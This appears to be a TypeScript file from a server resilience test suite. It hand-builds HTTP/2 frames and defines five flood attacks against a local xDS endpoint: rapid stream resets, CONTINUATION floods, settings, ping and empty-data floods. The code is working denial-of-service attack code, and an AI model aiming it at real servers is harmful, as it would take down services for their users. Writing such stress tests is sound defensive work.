import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Row } from './rows.ts';

/** Types and flags of frames: https://www.rfc-editor.org/rfc/rfc9113#section-6 */
const types = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 };
const endOfHeaders = 4;
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  [head[3], head[4]] = [type, flags];
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Returns an HPACK field by the index of its name, not to be indexed. */
const field = (index: number, value: string) =>
  Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)]);
const path = '/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources';
const head = Buffer.concat([Buffer.from([0x83, 0x86]), field(4, path), field(1, 'a')]);

/**
 * Returns an attack that sends frames on a connection, and does not read it. It resolves when all
 * frames are sent, or the connection is closed.
 */
const sends =
  (
    count: number,
    frames: (index: number) => Buffer,
    first: Buffer = Buffer.alloc(0),
  ): Row['attack'] =>
  async ({ ports }) => {
    const socket: Socket = connect(ports.xds, '127.0.0.1').on('error', () => undefined);
    await once(socket, 'connect');
    const closed = new Promise((done) => socket.once('close', done));
    socket.pause();
    socket.write(Buffer.concat([preface, frame(types.settings, 0, 0), first]));
    for (let sent = 0; sent < count && !socket.destroyed; sent += 1_000) {
      const batch = Buffer.concat(
        Array.from({ length: 1_000 }, (_, index) => frames(sent + index)),
      );
      if (!socket.write(batch))
        await Promise.race([new Promise((done) => socket.once('drain', done)), closed, sleep(500)]);
    }
    return () => socket.destroy();
  };

const stream = (index: number) => 2 * index + 1;

/** Floods of HTTP/2: much work for few bytes. */
export const frames: readonly Row[] = [
  {
    name: 'a flood of streams that are reset at once',
    attack: sends(20_000, (index) =>
      Buffer.concat([
        frame(types.headers, endOfHeaders, stream(index), head),
        frame(types.reset, 0, stream(index), Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  },
  {
    name: 'a flood of continuations of one head',
    attack: sends(
      20_000,
      () => frame(types.continuation, 0, 1, field(4, 'x')),
      frame(types.headers, 0, 1, head),
    ),
  },
  {
    name: 'a flood of settings',
    attack: sends(50_000, () => frame(types.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  },
  {
    name: 'a flood of pings',
    attack: sends(50_000, () => frame(types.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'a flood of empty data',
    attack: sends(
      50_000,
      () => frame(types.data, 0, 1),
      frame(types.headers, endOfHeaders, 1, head),
    ),
  },
];
